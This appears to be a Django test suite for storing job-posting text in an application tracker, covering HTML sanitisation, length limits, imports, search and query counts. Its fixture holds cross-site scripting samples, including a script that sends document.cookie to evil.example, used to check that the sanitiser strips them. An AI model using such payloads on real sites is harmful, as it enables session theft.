"""The posting's text kept with an application: read from HTML safely, bounded, written only
through posting_services, filled from quick add, the form and imports, found by the table's
search (from its trigram index on PostgreSQL) and shown on the application's and the
interview's pages at a constant number of queries."""

import re

import pytest
from django.core.exceptions import ValidationError
from django.db import IntegrityError, connection, transaction
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from applications import search, services
from applications.imports import mapping
from applications.imports.services.writing import applications_import
from applications.models import Application, Posting
from applications.posting_models import POSTING_MAX
from applications.posting_services import posting_set
from applications.posting_text import posting_text
from tests.factories import ApplicationFactory, CompanyFactory, InterviewFactory

pytestmark = pytest.mark.django_db

HOSTILE = """
<h2 onclick="steal()">About the role</h2>
<script>document.location = "https://evil.example/?c=" + document.cookie</script>
<style>body { display: none }</style>
<p>You will <strong>build</strong> dashboards &amp; <em>pipelines</em>.<img src=x
onerror=alert(1)></p>
<iframe src="https://evil.example/"></iframe>
<ul><li>SQL</li><li><a href="javascript:alert(1)">Python</a></li></ul>
<!-- <script>alert(2)</script> -->
<p>Salary &lt;script&gt; is text here</p>
"""


def test_hostile_html_keeps_only_its_words():
    text = posting_text(HOSTILE)
    assert text == (
        "About the role\n\nYou will build dashboards & pipelines.\n\n• SQL\n• Python\n\n"
        "Salary <script> is text here"
    )
    for gone in ("steal", "document.cookie", "display: none", "evil.example", "alert"):
        assert gone not in text


def test_html_escaped_once_more_and_plain_text_are_read_too():
    # Many sites write a JobPosting's description as escaped HTML.
    assert posting_text(
        "&lt;p&gt;Hello&lt;/p&gt;&lt;ul&gt;&lt;li&gt;one&lt;/li&gt;&lt;/ul&gt;"
    ) == ("Hello\n\n• one")
    pasted = "  Data analyst \r\n\r\n\r\n\r\nWe  offer:\tlunch\n"
    assert posting_text(pasted) == "Data analyst\n\nWe offer: lunch"
    # A plain "a < b" is not markup.
    assert posting_text("5 < 7 and 9 > 3") == "5 < 7 and 9 > 3"


def test_the_page_escapes_what_is_kept(alice_client, application):
    posting_set(
        application=application,
        text="<b>x</b> &lt;img src=x onerror=alert(1)&gt; y",
        origin="pasted",
    )
    page = alice_client.get(application.get_absolute_url()).content.decode()
    assert "&lt;img src=x onerror=alert(1)&gt;" in page
    assert "<img src=x" not in page


def test_the_service_sets_replaces_and_removes(application):
    posting = posting_set(application=application, text="First version", origin="bookmarklet")
    assert posting is not None and posting.text == "First version"
    posting_set(application=application, text="Second version", origin="pasted")
    kept = Posting.objects.get(application=application)
    assert (kept.text, kept.origin) == ("Second version", "pasted")
    # The same text again: where it came from still holds.
    posting_set(application=application, text="<p>Second version</p>", origin="imported")
    assert Posting.objects.get(application=application).origin == "pasted"
    assert posting_set(application=application, text="  \n ", origin="pasted") is None
    assert not Posting.objects.filter(application=application).exists()


def test_it_is_bounded_in_the_service_the_form_and_the_database(alice_client, application):
    exactly = "a" * POSTING_MAX
    assert posting_set(application=application, text=exactly, origin="pasted") is not None
    with pytest.raises(ValidationError):
        posting_set(application=application, text=exactly + "b", origin="pasted")
    with pytest.raises(IntegrityError), transaction.atomic():
        Posting.objects.filter(application=application).update(text=exactly + "b")
    with pytest.raises(IntegrityError), transaction.atomic():
        Posting.objects.filter(application=application).update(text="")
    form = alice_client.get(reverse("applications:application_update", args=[application.pk]))
    data = {k: v for k, v in form.context["form"].initial.items() if v is not None}
    data.update(company=application.company_id, posting="x" * (POSTING_MAX + 1), excitement=3)
    data.pop("contacts", None)
    response = alice_client.post(
        reverse("applications:application_update", args=[application.pk]), data
    )
    assert response.status_code == 200
    assert "longer than 100,000 characters" in response.content.decode()
    assert Posting.objects.get(application=application).text == exactly


def test_pasting_on_the_edit_form_keeps_it_and_another_user_gets_a_404(
    alice_client, bob_client, application
):
    url = reverse("applications:application_update", args=[application.pk])
    data = {
        "company": application.company_id,
        "role": application.role,
        "date_applied": application.date_applied.isoformat(),
        "excitement": 3,
        "posting": "We build\n\nkaleidoscopes for data",
    }
    assert alice_client.post(url, data).status_code == 302
    assert Posting.objects.get(application=application).text == "We build\n\nkaleidoscopes for data"
    # The form shows it back, and saving unchanged keeps it.
    assert alice_client.get(url).context["form"]["posting"].value() == (
        "We build\n\nkaleidoscopes for data"
    )
    assert bob_client.get(url).status_code == 404
    assert bob_client.post(url, {**data, "posting": "mine now"}).status_code == 404
    assert Posting.objects.get(application=application).text.startswith("We build")


def test_the_new_form_and_quick_add_keep_it(alice, alice_client):
    company = CompanyFactory(owner=alice, name="Northwind")
    alice_client.post(
        reverse("applications:application_create"),
        {"company": company.pk, "role": "Analyst", "excitement": 3, "posting": "<p>Hi</p>"},
    )
    made = Application.objects.get(owner=alice, role="Analyst")
    assert (made.posting.text, made.posting.origin) == ("Hi", "pasted")
    response = alice_client.post(
        reverse("applications:quick_add"),
        {
            "company": "Contoso",
            "role": "Engineer",
            "status": "wishlist",
            "posting": "<ul><li>Rust</li></ul>",
            "posting_from_page": "True",
        },
    )
    assert response.status_code == 302
    quick = Application.objects.get(owner=alice, role="Engineer")
    assert (quick.posting.text, quick.posting.origin) == ("• Rust", "bookmarklet")


def test_quick_add_keeps_its_opener_for_the_bookmarklet(alice_client):
    response = alice_client.get(reverse("applications:quick_add"), {"role": "Analyst"})
    assert response["Cross-Origin-Opener-Policy"] == "unsafe-none"
    assert "applications/posting.js" in response.content.decode()


def test_an_import_reads_a_description_column(alice):
    for header in ("Description", "Job description", "Beschreibung", "Stellenbeschreibung"):
        assert "description" in mapping.auto_mapping(["Company", "Role", header])
    header = ["Company", "Job Title", "Stellenanzeige", "Stellenbeschreibung"]
    found = mapping.auto_mapping(header)
    assert (found["url"], found["description"]) == (2, 3)
    rows = [
        ["Acme", "Analyst", "https://acme.example/1", "<p>Dashboards and <b>SQL</b></p>"],
        ["Globex", "Designer", "", ""],
        ["Initech", "Writer", "", "w" * (POSTING_MAX + 10)],
    ]
    records = mapping.parse(header, rows, found, {})
    assert records[0].details[-1] == "the posting’s text"
    made = {a.role: a for a in applications_import(owner=alice, records=records)}
    assert Posting.objects.get(application=made["Analyst"]).text == "Dashboards and SQL"
    assert Posting.objects.get(application=made["Analyst"]).origin == "imported"
    assert not Posting.objects.filter(application=made["Designer"]).exists()
    assert len(Posting.objects.get(application=made["Writer"]).text) == POSTING_MAX


def _found(client, term: str) -> set[str]:
    page = client.get(reverse("applications:application_list"), {"q": term}).content.decode()
    body = page.split("<tbody>", 1)[1].split("</tbody>", 1)[0] if "<tbody>" in page else ""
    return set(re.findall(r'<td data-label="Role"><a href="[^"]+">([^<]+)</a>', body))


def test_the_table_search_finds_words_only_in_the_posting(alice, bob, alice_client):
    acme = CompanyFactory(owner=alice, name="Acme")
    analyst = ApplicationFactory(company=acme, role="Analyst")
    ApplicationFactory(company=acme, role="Kaleidoscope engineer")
    designer = ApplicationFactory(company=acme, role="Designer")
    posting_set(application=analyst, text="You will tame KALEIDOSCOPES of data", origin="pasted")
    posting_set(application=designer, text="Figma, research", origin="pasted")
    theirs = ApplicationFactory(company=CompanyFactory(owner=bob), role="Bob's")
    posting_set(application=theirs, text="kaleidoscope", origin="pasted")

    assert _found(alice_client, "kaleidoscope") == {"Analyst", "Kaleidoscope engineer"}
    assert _found(alice_client, "figma") == {"Designer"}
    # Changing the posting changes what a (cached) search finds.
    posting_set(application=designer, text="Figma, kaleidoscope", origin="pasted")
    assert _found(alice_client, "kaleidoscope") == {
        "Analyst",
        "Kaleidoscope engineer",
        "Designer",
    }


@pytest.mark.skipif(connection.vendor != "postgresql", reason="the trigram index")
def test_the_postings_half_of_the_search_reads_its_trigram_index(alice):
    analyst = ApplicationFactory(company=CompanyFactory(owner=alice), role="Analyst")
    posting_set(application=analyst, text="kaleidoscopes", origin="pasted")
    # The index's expression is still the lookup's (the planner may well start from the
    # owner's applications instead, when they are few).
    postings = Posting.objects.filter(text__icontains="kaleido")
    with connection.cursor() as cursor:
        cursor.execute("SET LOCAL enable_seqscan = off")
    assert "posting_text_trgm_idx" in postings.explain()
    found = Application.objects.alias(search_text=search.text()).filter(
        search.matches(owner=alice, term="kaleido")
    )
    assert list(found.values_list("role", flat=True)) == ["Analyst"]


def _count(client, url: str) -> int:
    with CaptureQueriesContext(connection) as ctx:
        assert client.get(url).status_code == 200
    return len(ctx.captured_queries)


def test_the_search_costs_the_same_queries_for_5_or_500_postings(alice, alice_client):
    company = CompanyFactory(owner=alice)
    for i in range(5):
        posting_set(
            application=ApplicationFactory(company=company, role=f"Role {i}"),
            text=f"needle {i}",
            origin="pasted",
        )
    url = reverse("applications:application_list") + "?q=needle"
    few = _count(alice_client, url)
    apps = [ApplicationFactory(company=company, role=f"More {i}") for i in range(495)]
    Posting.objects.bulk_create(
        Posting(application=a, text="a needle in it", origin="pasted") for a in apps
    )
    # A different search, so neither is served from the cache.
    url = reverse("applications:application_list") + "?q=needle+in"
    assert _count(alice_client, url) == few


def test_the_pages_show_it_at_a_constant_number_of_queries(alice, alice_client):
    application = ApplicationFactory(company=CompanyFactory(owner=alice), role="Analyst")
    interview = InterviewFactory(application=application)
    detail, interview_url = application.get_absolute_url(), interview.get_absolute_url()
    without = (_count(alice_client, detail), _count(alice_client, interview_url))
    page = alice_client.get(detail).content.decode()
    assert "No posting kept yet" in page
    posting_set(
        application=application, text="Tame kaleidoscopes\n\n" + "word " * 5000, origin="pasted"
    )
    assert (_count(alice_client, detail), _count(alice_client, interview_url)) == without
    for url in (detail, interview_url):
        page = alice_client.get(url).content.decode()
        assert "Tame kaleidoscopes" in page
        assert "Show the posting (5,002 words)" in page


def test_services_take_it_whole_from_a_form(alice):
    company = CompanyFactory(owner=alice)
    made = services.application_create(
        owner=alice, company=company, role="Analyst", posting="<p>Kept</p>", posting_origin="pasted"
    )
    assert made.posting.text == "Kept"
    services.application_update(
        application=made, date_applied=made.date_applied, fields=["posting"], posting=""
    )
    assert not Posting.objects.filter(application=made).exists()
